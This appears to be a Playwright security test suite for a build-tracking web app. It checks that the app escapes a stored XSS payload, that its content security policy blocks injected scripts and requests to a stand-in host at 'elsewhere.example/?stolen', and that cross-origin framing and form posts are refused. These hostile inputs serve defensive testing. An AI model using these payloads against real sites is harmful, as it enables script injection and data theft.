import { copyOf, expect, saved, test } from './server'

const SCRIPT = '"><img src=x onerror=window.struck=1>'

test('script in every text field is text: at every station, in every list, on paper', async ({ page, server }) => {
  const bundle = (await (await fetch(`${server}/api/builds/heron/bundle`)).json()) as { build: Record<string, never>; log: object[] }
  // Wherever a person may write words.
  const written = (value: unknown, key: string): unknown => {
    if (typeof value === 'string')
      return ['name', 'seller', 'note', 'notes', 'says', 'reason', 'why', 'by', 'to', 'place'].includes(key) ? SCRIPT : value
    if (Array.isArray(value)) return value.map((v) => written(v, key))
    if (value === null || typeof value !== 'object') return value
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, written(v, k)]))
  }
  const build = written(bundle.build, '')
  const log = [{ id: 'a', at: '2026-11-26T20:00:00Z', kind: 'note', text: SCRIPT, station: 'fit', thing: 'pocket-mouth' }]
  const sent = await fetch(`${server}/api/import`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ ...bundle, build, log }),
  })
  expect(sent.status, await sent.clone().text()).toBe(201)
  const { id } = (await sent.json()) as { id: string }
  let struck = 0
  page.on('dialog', () => struck++)
  for (const path of [
    '',
    ...['parts', 'fit', 'drill', 'wire', 'finish', 'setup', 'plan', 'log', 'log?tab=changes', 'parts?tab=paper'].map(
      (s) => `builds/${id}/${s}`,
    ),
  ]) {
    await page.goto(`/${path}`)
    // The newest lies at the end of the shelf, of which only what is in sight is laid out.
    if (!path) await page.getByRole('listitem').first().waitFor()
    await expect
      .poll(async () => {
        if (!path) await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight))
        return page.getByText('onerror').count()
      })
      .toBeGreaterThan(0)
    expect(await page.evaluate(() => 'struck' in window), path).toBe(false)
  }
  await page.goto(`/builds/${id}/log?tab=handover`)
  const opened = page.context().waitForEvent('page')
  await page.getByRole('button', { name: 'Build book', exact: true }).click()
  const book = await opened
  await expect(book.getByText('onerror').first()).toBeAttached()
  expect(await book.evaluate(() => 'struck' in window)).toBe(false)
  expect(struck).toBe(0)
})

test('what got onto the page all the same would not run: neither inline, nor from elsewhere, nor sends anything away', async ({ page }) => {
  await page.goto('/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const refused = await page.evaluate(async () => {
    const said: string[] = []
    document.addEventListener('securitypolicyviolation', (e) => said.push(e.effectiveDirective))
    const script = (more: Partial<HTMLScriptElement>) => document.body.append(Object.assign(document.createElement('script'), more))
    script({ textContent: 'window.struck = 1' })
    script({ src: 'http://elsewhere.example/x.js' })
    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.struck=1' })
    document.body.append(link)
    link.click()
    await fetch('http://elsewhere.example/?stolen').catch(() => undefined)
    document.body.append(Object.assign(document.createElement('img'), { src: 'http://elsewhere.example/?stolen' }))
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://elsewhere.example/' }))
    await new Promise((done) => setTimeout(done, 300))
    return { said, struck: 'struck' in window }
  })
  expect(refused.struck).toBe(false)
  expect(refused.said).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src', 'img-src', 'frame-src']))
})

test('another site cannot put it in a frame, read it, or have it change anything', async ({ page, server }) => {
  const id = await copyOf(server, 'heron')
  await page.route('http://elsewhere.example/', (r) =>
    r.fulfill({ contentType: 'text/html', body: `<iframe id="f" src="${server}/builds/${id}/fit"></iframe>` }),
  )
  await page.goto('http://elsewhere.example/')
  const got = await page.evaluate(async (to) => {
    const attempt = (path: string, init: RequestInit) =>
      fetch(`${to}${path}`, init).then(
        (r) => r.type,
        () => 'refused',
      )
    const form = { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"name":"x"}' } as const
    return {
      read: await attempt('/api/builds', {}),
      json: await attempt('/api/builds', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
      form: await attempt('/api/builds', form),
    }
  }, server)
  expect(got.read).toBe('refused')
  expect(got.json).toBe('refused')
  const names = ((await (await fetch(`${server}/api/builds`)).json()) as { name: string }[]).map((b) => b.name)
  expect(names).not.toContain('x')
  expect(page.frames().some((f) => f.url().includes(id))).toBe(false)
  await page.goto(`/builds/${id}/fit`)
  await saved(page)
})
